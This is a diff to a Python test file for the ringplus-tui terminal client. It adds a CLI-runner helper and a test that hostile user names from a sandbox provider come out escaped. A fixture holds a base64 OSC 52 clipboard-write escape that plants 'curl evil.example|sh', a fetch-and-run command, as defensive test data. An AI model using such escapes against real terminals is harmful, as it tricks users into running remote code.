@@ -4,7 +4,11 @@
 from __future__ import annotations
 
 import json
+import os
+import subprocess
+import sys
 import time
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -17,6 +21,23 @@ from ringplus_tui.store.settings import SettingsStore
 OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
 """Writes ``curl evil.example|sh`` to the clipboard of a terminal that obeys it."""
 RETITLE = "\x1b]0;title\x07"
+
+
+class Cli:
+    """Runs the installed ``ringplus-tui`` with this test's settings and keyring service."""
+
+    def __init__(self, home: Path, service_name: str) -> None:
+        self.env = {
+            **os.environ,
+            "RINGPLUS_TUI_HOME": str(home),
+            "RINGPLUS_TUI_KEYRING_SERVICE": service_name,
+        }
+
+    def __call__(self, *args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
+        command = str(Path(sys.executable).with_name("ringplus-tui"))
+        return subprocess.run(
+            [command, *args], input=stdin, capture_output=True, text=True, env=self.env, timeout=60
+        )
 
 
 def _no_controls(text: str) -> bool:
@@ -77,3 +98,44 @@ def test_an_error_naming_hostile_text_cannot_drive_the_terminal(
     assert "ringplus-tui:" in stderr
     assert _no_controls(stderr), repr(stderr)
     assert "\\x1b]0;title\\x07" in stderr
+
+
+def test_a_hostile_user_name_from_the_provider_never_reaches_the_terminal(
+    config_dir: Path, keyring_store, sandbox: Sandbox
+) -> None:
+    from ringplus_tui.store.secret_store import (
+        access_token_key,
+        client_secret_key,
+        refresh_token_key,
+    )
+
+    sandbox.state.users = [
+        replace(user, name=f"Alice {OSC52}{RETITLE}[/]") for user in sandbox.state.users
+    ]
+    cli = Cli(config_dir, keyring_store.service)
+    p = sandbox.provider()
+    try:
+        added = cli(
+            "app", "add", "sandbox",
+            "--client-id", sandbox.client_id,
+            "--redirect-uri", sandbox.redirect_uri,
+            "--authorization-endpoint", p.authorization_endpoint,
+            "--token-endpoint", p.token_endpoint,
+            "--api-base", p.api_base or "",
+            stdin=sandbox.client_secret + "\n",
+        )  # fmt: skip
+        assert added.returncode == 0, added.stderr
+        assert cli("account", "add", "alice", "--app", "sandbox").returncode == 0
+        login = cli("login", "alice", "--username", "alice@example.com", stdin="alice-pass\n")
+        assert login.returncode == 0, login.stderr
+        assert "Signed in 'alice' as Alice \\x1b]52;c;" in login.stderr
+        assert _no_controls(login.stderr), repr(login.stderr)
+        status = cli("status")
+        assert status.returncode == 0 and "Alice \\x1b]52;c;" in status.stdout
+        assert _no_controls(status.stdout), repr(status.stdout)
+        raw = json.loads(cli("status", "--json").stdout)
+        assert raw[0]["user"].startswith(f"Alice {OSC52}{RETITLE}[/]")  # machine output: exact
+    finally:
+        for key in (access_token_key("alice"), refresh_token_key("alice"), "account:alice:pending"):
+            keyring_store.delete(key)
+        keyring_store.delete(client_secret_key("sandbox"))
